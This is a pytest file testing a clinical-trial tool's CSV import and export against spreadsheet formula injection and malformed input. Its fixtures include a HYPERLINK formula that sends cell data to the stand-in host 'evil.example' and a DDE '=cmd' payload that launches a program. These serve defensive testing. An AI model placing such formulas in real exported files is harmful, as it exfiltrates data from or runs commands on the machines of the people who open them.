"""``mrecist clinical import|export`` with hostile or sloppy files (docs/clinical-record.md §5).

- An export is opened in a spreadsheet by a monitor: a cell that starts with ``=``, ``+``
  or ``@`` is run as a formula there (CSV injection, OWASP). Free text reaches the export
  verbatim (a note, an AE term, a cause of death), so a value typed or imported as
  ``=HYPERLINK(...)`` becomes a live formula in the monitor's spreadsheet.
- "a time after T is dropped": only a time, not any text after a T.
- A header saved by a spreadsheet with a trailing comma names an empty column; the
  message must say so, not end in ": ".
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from store_demo_reading import PASSWORD

from core.actions import record_eligibility
from core.cli import main
from core.errors import InvalidValueError
from core.model.clinical_record import CriterionStatus, Eligibility

TODAY = dt.date(2024, 6, 30)
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"source")'


def run(monkeypatch, capsys, *argv):
    monkeypatch.setattr("sys.stdin", io.StringIO(PASSWORD + "\n"))
    status = main([str(arg) for arg in argv])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def _closed(trial):
    path = trial.path
    trial.store.close()
    return path


def test_an_export_holds_no_cell_a_spreadsheet_runs_as_a_formula(a13_trial, monkeypatch,
                                                                  capsys):
    try:
        record_eligibility(a13_trial.store, a13_trial.coordinator, "HCC-001",
                           Eligibility("IN02", CriterionStatus.MET, FORMULA), today=TODAY)
    except InvalidValueError:
        return  # refused at entry: nothing to export
    db = _closed(a13_trial)
    status, out, err = run(monkeypatch, capsys, "clinical", "export", "--db", db, "--user",
                           "coord", "--password-stdin", "eligibility")
    assert (status, err) == (0, "")
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], out


def test_an_imported_formula_is_refused_or_exported_inert(a13_trial, monkeypatch, capsys,
                                                         tmp_path):
    db = _closed(a13_trial)
    path = tmp_path / "ae.csv"
    path.write_text(
        "USUBJID,AETERM,AETOXGR,AESTDTC,AESER,AEACN,AEOUT,AEREL_DEB-TACE\n"
        '"HCC-001","=cmd|\' /C calc\'!A0",2,2024-02-01,N,DOSE NOT CHANGED,'
        "RECOVERED/RESOLVED,POSSIBLY RELATED\n", encoding="utf-8")
    status, _, _ = run(monkeypatch, capsys, "clinical", "import", "--db", db, "--user",
                       "coord", "--password-stdin", "adverse-events", path)
    if status == 2:
        return  # refused at import
    status, out, _ = run(monkeypatch, capsys, "clinical", "export", "--db", db, "--user",
                         "coord", "--password-stdin", "adverse-events")
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], out


@pytest.mark.parametrize("text", ["2024-02-01T=cmd", "2024-02-01Tomorrow", "2024-02-01T99:99"])
def test_a_date_with_text_after_t_that_is_no_time_is_refused(a13_trial, monkeypatch, capsys,
                                                             tmp_path, text):
    db = _closed(a13_trial)
    path = tmp_path / "labs.csv"
    path.write_text("USUBJID,LBDTC,LBTESTCD,LBORRES,LBORRESU\n"
                    f"HCC-001,{text},PLAT,92,10^9/L\n", encoding="utf-8")
    status, _, err = run(monkeypatch, capsys, "clinical", "import", "--db", db, "--user",
                         "coord", "--password-stdin", "labs", path)
    assert status == 2
    assert "LBDTC" in err


def test_a_header_with_a_trailing_comma_is_named_clearly(a13_trial, monkeypatch, capsys,
                                                         tmp_path):
    db = _closed(a13_trial)
    path = tmp_path / "labs.csv"
    path.write_text("USUBJID,LBDTC,LBTESTCD,LBORRES,LBORRESU,\n"
                    "HCC-001,2024-02-01,PLAT,92,10^9/L,\n", encoding="utf-8")
    status, _, err = run(monkeypatch, capsys, "clinical", "import", "--db", db, "--user",
                         "coord", "--password-stdin", "labs", path)
    assert status == 2
    assert not err.rstrip().endswith(":"), err
    assert "empty" in err.lower() or "unnamed" in err.lower() or "no name" in err.lower(), err
